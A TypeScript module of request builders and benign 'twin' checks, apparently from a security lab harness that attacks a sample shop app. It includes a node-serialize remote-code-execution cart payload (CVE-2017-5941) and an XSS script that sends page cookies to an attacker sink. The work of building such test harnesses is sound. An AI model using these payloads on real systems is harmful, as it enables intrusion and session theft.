import type { AttackContext, TwinOutcome } from "../../attack.ts";
import { type Exchange, field, type LabRequest, list, served, summary } from "../../exchange.ts";
import type { UserName } from "../../users.ts";

/** Headers of a JSON body. */
export const JSON_BODY = { "content-type": "application/json" } as const;

/** Headers of an XML body. */
export const XML_BODY = { "content-type": "application/xml" } as const;

/** A request of a signed-in user, as a machine client sends it. */
export function get(context: AttackContext, client: UserName, path: string): LabRequest {
  return { client, method: "GET", path, headers: context.as(client) };
}

/** A JSON request of a signed-in user. A string is sent as it is: it may be no JSON at all. */
export function post(context: AttackContext, client: UserName, path: string, body: unknown): LabRequest {
  return {
    client,
    method: "POST",
    path,
    headers: { ...context.as(client), ...JSON_BODY },
    body: typeof body === "string" ? body : JSON.stringify(body),
  };
}

/** The search of the catalogue; what is searched is the attack. */
export function search(context: AttackContext, q: string): LabRequest {
  return get(context, "alice", `/products?q=${encodeURIComponent(q)}`);
}

/** The SKUs of an answer to a search. */
export function skus(exchange: Exchange): unknown[] {
  return list(exchange, "products").map((product) => product.sku);
}

/** An order for the body of `POST /orders`. */
export function order(quantity = 1): { lines: { sku: string; quantity: number }[]; note: string } {
  return { lines: [{ sku: "MUG-1", quantity }], note: "twin: two mugs, please" };
}

/**
 * The order that an answer to `POST /orders` speaks of, read back: what the answer says is no proof of what was stored. Where
 * nothing was placed, the answer itself, which holds no order.
 */
export async function storedOrder(context: AttackContext, placed: Exchange): Promise<Exchange> {
  const id = field(placed, "id");
  if (!served(placed) || typeof id !== "string") return placed;
  return await context.send(get(context, "alice", `/orders/${encodeURIComponent(id)}`), "proof");
}

/** The twin succeeded when it was served and the answer holds what a client came for. */
export function twin(exchange: Exchange, holds: boolean, evidence: string): TwinOutcome {
  const ok = served(exchange) && holds;
  return { ok, evidence: ok ? evidence : `${summary(exchange)}: ${exchange.response.body.slice(0, 200)}` };
}

/** The twin of attacks on the catalogue: a customer finds the mug. */
export async function searchTwin(context: AttackContext): Promise<TwinOutcome> {
  const answer = await context.send(search(context, "Mug"), "twin");
  return twin(answer, skus(answer).includes("MUG-1"), "a search for Mug finds MUG-1");
}

/** The twin of attacks on orders: a customer places one. */
export async function orderTwin(context: AttackContext): Promise<TwinOutcome> {
  const answer = await context.send(post(context, "alice", "/orders", order(2)), "twin");
  const total = field(answer, "totalCents");
  return twin(answer, total === 2 * context.seed.mugCents, `alice orders two mugs for ${total} cents`);
}

/** The twin of attacks on identity: a user reads who she is. */
export async function identityTwin(context: AttackContext, client: UserName): Promise<TwinOutcome> {
  const answer = await context.send(get(context, client, "/partners/me"), "twin");
  const { companyId, groups } = context.users[client];
  const same = field(answer, "companyId") === companyId || companyId === undefined;
  const role = groups.find((group) => !group.startsWith("company:"));
  const seen = field(answer, "groups");
  return twin(answer, same && Array.isArray(seen) && seen.includes(role), `${client}'s own token names ${client}`);
}

/** A file of `<order>`s as a partner's system sends it. */
export function feed(note: string, doctype = ""): string {
  return `<?xml version="1.0"?>\n${doctype}<orders><order><note>${note}</note><line sku="MUG-1" quantity="1"/></order></orders>`;
}

/** The import of a partner's feed. */
export function importFeed(context: AttackContext, xml: string): LabRequest {
  return {
    client: "alice",
    method: "POST",
    path: "/orders/import",
    headers: { ...context.as("alice"), ...XML_BODY },
    body: xml,
  };
}

/** The notes of the orders of an import. */
export function importedNotes(exchange: Exchange): string[] {
  return list(exchange, "orders").map((imported) => String(imported.note ?? ""));
}

/** The twin of attacks on the import: a feed without tricks is imported. */
export async function importTwin(context: AttackContext): Promise<TwinOutcome> {
  const answer = await context.send(importFeed(context, feed("twin: a plain feed")), "twin");
  return twin(answer, importedNotes(answer).includes("twin: a plain feed"), "a plain feed of one order is imported");
}

/** The restoring of a saved cart; the cart travels as text. */
export function restore(context: AttackContext, cart: string, client: UserName = "alice"): LabRequest {
  return post(context, client, "/carts/restore", { cart });
}

/** The saving of a cart of two mugs. */
export function saveCart(context: AttackContext, client: UserName): LabRequest {
  return post(context, client, "/carts", { lines: [{ sku: "MUG-1", quantity: 2 }] });
}

/** The text that a cart was saved as: the data itself on a stage that signs nothing, else a JWT. */
export function savedCart(saved: Exchange): string {
  return String(field(saved, "cart"));
}

/** The twin of attacks on saved carts: what a customer saved is restored to her. */
export async function cartTwin(context: AttackContext): Promise<TwinOutcome> {
  const saved = savedCart(await context.send(saveCart(context, "alice"), "twin"));
  const answer = await context.send(restore(context, saved), "twin");
  const total = field(answer, "totalCents");
  return twin(answer, total === 2 * context.seed.mugCents, `a saved cart of two mugs is restored for ${total} cents`);
}

/** A saved cart that runs code while node-serialize revives it (CVE-2017-5941). */
export function codeInCart(script: string): string {
  const run = `process.getBuiltinModule("node:child_process").execFileSync(process.execPath, ["-e", ${JSON.stringify(script)}])`;
  return JSON.stringify({ version: 1, lines: [], note: `_$$ND_FUNC$$_function(){ ${run}; return "done"; }()` });
}

/** The receipt of an order. */
export function receiptPath(orderId: string, query: Readonly<Record<string, string>> = {}): string {
  const parameters = new URLSearchParams(query).toString();
  return `/orders/${orderId}/receipt${parameters && `?${parameters}`}`;
}

/** A script that carries the page's cookie to the attacker. */
export function cookieThief(sinkUrl: string, token: string): string {
  return `<script>fetch("${sinkUrl}/${token}?"+document.cookie)</script>`;
}
